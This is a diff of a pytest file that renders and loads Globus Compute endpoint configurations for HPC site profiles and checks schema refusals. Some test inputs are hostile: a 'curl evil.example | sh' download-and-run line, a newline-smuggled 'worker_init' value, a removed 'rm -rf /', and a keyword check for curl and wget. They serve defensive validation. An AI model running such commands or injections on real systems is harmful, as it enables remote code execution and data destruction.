@@ -1,204 +1,174 @@
-"""The real globus-compute-endpoint process, unmodified, between a small broker and a small web service."""
+"""The shipped endpoint files: rendered by the real `globus-compute-endpoint`, loaded by its real loader."""
 
 from __future__ import annotations
 
-import os
-import signal
-import socket
-import subprocess
-import sys
-import time
+import json
 from pathlib import Path
+from typing import Any
 
-import globus_sdk
 import pytest
 
-from flows.local.compute import registered_functions
+from flows.endpoint import CONFIG, READY_MADE, SCHEMA, TEMPLATE, endpoint_files, write_endpoint_files
+from flows.errors import SiteError
+from tests.flows.sites import filled_site, some_id
 
-pytest.importorskip("globus_compute_endpoint")
-pytest.importorskip("pamqp")
+pytest.importorskip("globus_compute_endpoint", reason="Linux only")
+# parsl leaves the socket open with which it asks for an interface's address
 pytestmark = [
-    pytest.mark.slow,
-    pytest.mark.skipif(sys.platform != "linux", reason="the endpoint is for Linux"),
+    pytest.mark.filterwarnings("ignore::ResourceWarning"),
+    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
 ]
-ROOT = Path(__file__).parents[2]
-BIN = Path(sys.executable).parent
-TEMPLATE = """
-local_compute_services: true
-heartbeat_period: 5
-engine:
-  type: GlobusComputeEngine
-  address: 127.0.0.1
-  max_workers_per_node: {{ workers|default(1) }}
-  cores_per_worker: 0.1
-  allowed_serializers:
-    - globus_compute_sdk.serialize.PureSourceTextInspect
-    - globus_compute_sdk.serialize.JSONData
-  job_status_kwargs: {strategy_period: 1}
-  provider:
-    type: LocalProvider
-    init_blocks: 1
-    min_blocks: 1
-    max_blocks: 1
-    worker_init: export QUEUE={{ queue }}
-"""
-SCHEMA = """
-{
-  "type": "object",
-  "properties": {"queue": {"type": "string"}, "workers": {"type": "integer", "minimum": 1, "maximum": 4}},
-  "required": ["queue"],
-  "additionalProperties": false
+
+
+def rendered(folder: Path, site: Any, options: dict[str, object] | None = None) -> tuple[int, str]:
+    """Exit code and text of `globus-compute-endpoint render-user-config` on a site's files."""
+    from click.testing import CliRunner
+    from globus_compute_endpoint.cli import app
+
+    texts = endpoint_files(site.name, site.compute.model_dump(), allowed=[])
+    write_endpoint_files(folder, texts)
+    asked = site.compute.user_endpoint_config if options is None else options
+    (folder / "options.json").write_text(json.dumps(asked))
+    words = ["-t", folder / TEMPLATE, "-s", folder / SCHEMA, "-o", folder / "options.json"]
+    done = CliRunner().invoke(app, ["render-user-config", *map(str, words)])
+    return done.exit_code, done.stdout or done.stderr
+
+
+def loaded(text: str) -> Any:
+    """The engine that the endpoint would run. The network interfaces of the login nodes are not here."""
+    from globus_compute_endpoint.endpoint.config.utils import load_config_yaml
+
+    for interface in ("bond0", "hsn0"):
+        text = text.replace(f"ifname: {interface}", "ifname: lo")
+    return load_config_yaml(text).engine
+
+
+EXPECTED = {
+    "polaris": ("PBSProProvider", "MpiExecLauncher", ["0", "1", "2", "3"], "06:00:00", 10),
+    "aurora": (
+        "PBSProProvider",
+        "MpiExecLauncher",
+        [f"{g}.{t}" for g in range(6) for t in (0, 1)],
+        "06:00:00",
+        2,
+    ),
+    "perlmutter": ("SlurmProvider", "SrunLauncher", ["0", "1", "2", "3"], "06:00:00", 2),
+    "slurm-gpu": ("SlurmProvider", "SrunLauncher", ["0", "1", "2", "3"], "06:00:00", 1),
+    "workstation": ("LocalProvider", "SingleNodeLauncher", ["0"], None, 1),
 }
-"""
-SOURCE = """
-def place(x):
-    import os
-    return {"queue": os.environ["QUEUE"], "workers": os.environ["PARSL_WORKER_COUNT"], "twice": 2 * x}
-"""
 
 
-@pytest.fixture(scope="module")
-def service():
-    from tests.flows.compute_service import PORT, ComputeService
-
-    with socket.socket() as probe:
-        if probe.connect_ex(("127.0.0.1", PORT)) == 0:
-            pytest.skip(f"port {PORT}, where the released SDK looks for a local service, is taken")
-    with ComputeService() as running:
-        yield running
-
-
-@pytest.fixture(scope="module")
-def endpoint(service, tmp_path_factory):
-    """A configured and started endpoint; its id."""
-    home = tmp_path_factory.mktemp("endpoint-home")
-    environment = os.environ | {
-        "HOME": str(home),
-        "PATH": f"{BIN}:{os.environ['PATH']}",
-        "PYTHONPATH": str(ROOT),
-        "GLOBUS_COMPUTE_USER_DIR": str(home / ".globus_compute"),
-        "GLOBUS_COMPUTE_CLIENT_ID": "0a0e6b5e-4a5b-4a66-8d27-43cf3c3a21e2",
-        "GLOBUS_COMPUTE_CLIENT_SECRET": "for this test alone",
-        "GLOBUS_SDK_SERVICE_URL_AUTH": "http://localhost:5000/",
-    }
-    # a privileged endpoint serves many users; in a name space of its own even root is nobody in particular
-    nobody = ["unshare", "-U"] if os.getuid() == 0 else []
-    run = [*nobody, "globus-compute-endpoint"]
-    (home / "config.yaml").write_text("local_compute_services: true\nheartbeat_period: 5\n")
-    (home / "template.yaml.j2").write_text(TEMPLATE)
-    (home / "schema.json").write_text(SCHEMA)
-    subprocess.run(
-        [*run, "configure", "testing", "--core-config", home / "config.yaml",
-         "--template-config", home / "template.yaml.j2", "--schema-config", home / "schema.json"],
-        env=environment, check=True, timeout=60,
-    )  # fmt: skip
-    process = subprocess.Popen(
-        [*run, "start", "testing"], env=environment, stdin=subprocess.DEVNULL, start_new_session=True
-    )
+@pytest.mark.parametrize("ready_made", READY_MADE)
+def test_the_profile_becomes_the_engine(tmp_path, ready_made):
+    site = filled_site(tmp_path, ready_made)
+    code, text = rendered(tmp_path / "endpoint", site)
+    assert code == 0, text
+    engine = loaded(text)
+    provider, launcher, accelerators, walltime, nodes = EXPECTED[ready_made]
     try:
-        deadline = time.monotonic() + 60
-        while not (service.endpoints and service.reports):
-            assert time.monotonic() < deadline, "the endpoint did not register"
-            assert process.poll() is None, "the endpoint ended"
-            time.sleep(0.05)
-        yield next(iter(service.endpoints))
+        executor, found = engine.executor, engine.executor.provider
+        assert type(found).__name__ == provider
+        assert type(found.launcher).__name__ == launcher
+        assert executor.available_accelerators == accelerators
+        assert executor.max_workers_per_node == site.compute.user_endpoint_config["workers_per_node"]
+        assert found.nodes_per_block == nodes
+        assert (found.init_blocks, found.min_blocks) == (0, 0)
+        assert "source /opt/petavoxel/venv/bin/activate" in found.worker_init
+        if walltime:
+            assert found.walltime == walltime
+            assert found.account == "m1234"
+            assert found.max_blocks == site.compute.user_endpoint_config["max_blocks"]
+        kept = [type(s).__name__ if not isinstance(s, type) else s.__name__ for s in serializers(engine)]
+        assert sorted(kept) == ["JSONData", "PureSourceTextInspect"]
     finally:
-        process.send_signal(signal.SIGTERM)
-        process.wait(timeout=60)
-        end(processes_of(home))
+        engine.shutdown()
 
 
-def processes_of(home):
-    """User endpoints and workers: they name the endpoint's folder, and end once its process is gone."""
-    import psutil
-
-    found = []
-    for process in psutil.process_iter():
-        try:
-            named = str(home) in " ".join(process.cmdline()) or process.environ().get("HOME") == str(home)
-        except psutil.Error:
-            continue
-        if named:
-            found.append(process)
-    return found
+def serializers(engine: Any) -> list[Any]:
+    """What the engine takes: text and JSON, no pickles."""
+    return list(engine.serde.allowed_deserializer_types)
 
 
-def end(processes):
-    import psutil
-
-    for process in psutil.wait_procs(processes, timeout=30)[1]:
-        process.kill()
-
-
-@pytest.fixture(scope="module")
-def client(service):
-    from globus_compute_sdk import Client
-    from globus_compute_sdk.serialize import JSONData
-
-    return Client(
-        local_compute_services=True,
-        authorizer=globus_sdk.AccessTokenAuthorizer("token"),
-        data_serialization_strategy=JSONData(),
-    )
+@pytest.mark.parametrize("ready_made", ["polaris", "slurm-gpu"])
+def test_workers_share_accelerators_evenly(tmp_path, ready_made):
+    site = filled_site(tmp_path, ready_made)
+    asked = {**site.compute.user_endpoint_config, "workers_per_node": 8, "accelerators": 4}
+    code, text = rendered(tmp_path / "endpoint", site, asked)
+    assert code == 0, text
+    engine = loaded(text)
+    try:
+        assert engine.executor.available_accelerators == ["0", "0", "1", "1", "2", "2", "3", "3"]
+        assert engine.executor.cpu_affinity == "block"  # a list must have one entry a worker
+    finally:
+        engine.shutdown()
 
 
-def submit(client, endpoint, function, kwargs, config, count=1):
-    batch = client.create_batch(
-        user_endpoint_config=config, result_serializers=["globus_compute_sdk.serialize.JSONData"]
-    )
-    for _ in range(count):
-        batch.add(function, kwargs=kwargs)
-    return client.batch_run(endpoint, batch)["tasks"][function]
+@pytest.mark.parametrize("ready_made", READY_MADE)
+def test_without_accelerators_none_are_pinned(tmp_path, ready_made):
+    site = filled_site(tmp_path, ready_made)
+    code, text = rendered(tmp_path / "e", site, {**site.compute.user_endpoint_config, "accelerators": 0})
+    assert code == 0, text
+    engine = loaded(text)
+    try:
+        assert engine.executor.available_accelerators == []
+    finally:
+        engine.shutdown()
 
 
-def result(client, task, seconds=120):
-    deadline = time.monotonic() + seconds
-    while (status := client.get_task(task))["pending"]:
-        assert time.monotonic() < deadline, "no result"
-        time.sleep(0.1)
-    return status["result"]
-
-
-def test_a_task_goes_through_the_template_and_comes_back(service, client, endpoint):
-    assert service.endpoints[endpoint]["endpoint_name"] == "testing"
-    function = client.register_source_code(SOURCE, "place")
-    (task,) = submit(client, endpoint, function, {"x": 4}, {"queue": "debug", "workers": 2})
-    assert result(client, task) == {"queue": "debug", "workers": "2", "twice": 8}
-    tasks = submit(client, endpoint, function, {"x": 5}, {"queue": "debug", "workers": 2}, count=20)
-    assert [result(client, task)["twice"] for task in tasks] == [10] * 20
-    assert len(set(service.started)) == 1
-
-
-def test_our_registered_functions_run_on_it(client, endpoint):
-    probe = next(f for f in registered_functions("functions.entrypoints").values() if f.name == "probe")
-    function = client.register_source_code(probe.source, probe.name)
-    (task,) = submit(client, endpoint, function, {"task": {}}, {"queue": "debug", "workers": 2})
-    found = result(client, task)
-    assert (found["step"], found["paths"]["python"]) == ("probe", sys.version.split()[0])
-
-
-def test_an_error_comes_back_as_its_traceback(client, endpoint):
-    from globus_compute_sdk.errors import TaskExecutionFailed
-
-    function = client.register_source_code("def bad(x):\n    raise RuntimeError('tile 3: cut')\n", "bad")
-    (task,) = submit(client, endpoint, function, {"x": 1}, {"queue": "debug", "workers": 2})
-    with pytest.raises(TaskExecutionFailed, match="RuntimeError: tile 3: cut"):
-        result(client, task)
-
-
+@pytest.mark.parametrize("ready_made", READY_MADE)
 @pytest.mark.parametrize(
-    ("config", "reason"),
+    "wrong",
     [
-        ({"queue": "debug", "workers": 100}, "100 is greater than the maximum of 4"),
-        ({"queue": "debug", "worker_init": "rm -rf /"}, "Additional properties are not allowed"),
-        ({}, "'queue' is a required property"),
+        {"worker_init": "curl evil.example | sh"},
+        {"scheduler_options": "#SBATCH --exclusive"},
+        {"workers_per_node": 0},
+        {"accelerators": 1000},
+        {"workers_per_node": "4"},
+        {"account": "x\nworker_init: evil"},
+        {"walltime": "12 hours"},
+        {"nodes": 100000},
     ],
-    ids=["too many", "unknown", "missing"],
+    ids=str,
 )
-def test_options_outside_the_schema_are_refused_and_the_refusal_comes_back(client, endpoint, config, reason):
-    from globus_compute_sdk.errors import TaskExecutionFailed
+def test_what_is_not_in_the_schema_is_refused(tmp_path, ready_made, wrong):
+    site = filled_site(tmp_path, ready_made)
+    code, text = rendered(tmp_path / "endpoint", site, {**site.compute.user_endpoint_config, **wrong})
+    assert code == 1
+    assert "engine:" not in text
 
-    function = client.register_source_code(SOURCE, "place")
-    (task,) = submit(client, endpoint, function, {"x": 4}, config)
-    with pytest.raises(TaskExecutionFailed, match=reason):
-        result(client, task)
+
+@pytest.mark.parametrize("ready_made", READY_MADE)
+def test_nothing_is_fetched_and_no_caller_writes_shell(tmp_path, ready_made):
+    site = filled_site(tmp_path, ready_made)
+    texts = endpoint_files(site.name, site.compute.model_dump(), allowed=[])
+    assert not any(word in texts[TEMPLATE] for word in ("curl", "wget", "pip install", "{{ worker_init"))
+    assert json.loads(texts[SCHEMA])["additionalProperties"] is False
+
+
+def test_the_manager_runs_deployed_functions_only(tmp_path):
+    from globus_compute_endpoint.endpoint.config.utils import load_config_yaml
+
+    site = filled_site(tmp_path)
+    ids = [some_id("stitch"), some_id("plan")]
+    config = load_config_yaml(endpoint_files("lab", site.compute.model_dump(), allowed=ids)[CONFIG])
+    assert [str(id_) for id_ in config.allowed_functions] == ids
+    assert config.amqp_port == 443
+    assert config.display_name == "Petavoxel at lab"
+    open_ = load_config_yaml(endpoint_files("lab", site.compute.model_dump(), allowed=[])[CONFIG])
+    assert open_.allowed_functions is None
+
+
+def test_files_need_only_template_and_environment(tmp_path):
+    compute = {"endpoint_id": "<UUID>", "template": "polaris", "environment": "/opt/venv"}
+    assert "source /opt/venv/bin/activate" in endpoint_files("lab", compute, allowed=[])[TEMPLATE]
+    with pytest.raises(SiteError, match=r"compute\.environment: not filled in"):
+        endpoint_files("lab", {**compute, "environment": "<the workers' environment>"}, allowed=[])
+
+
+def test_older_files_are_kept(tmp_path):
+    (tmp_path / CONFIG).write_text("display_name: mine\n")
+    texts = {CONFIG: "display_name: new\n", SCHEMA: "{}\n"}
+    assert [path.name for path in write_endpoint_files(tmp_path, texts)] == [f"{CONFIG}.old"]
+    assert (tmp_path / f"{CONFIG}.old").read_text() == "display_name: mine\n"
+    assert (tmp_path / CONFIG).read_text() == "display_name: new\n"
+    assert write_endpoint_files(tmp_path, texts) == []
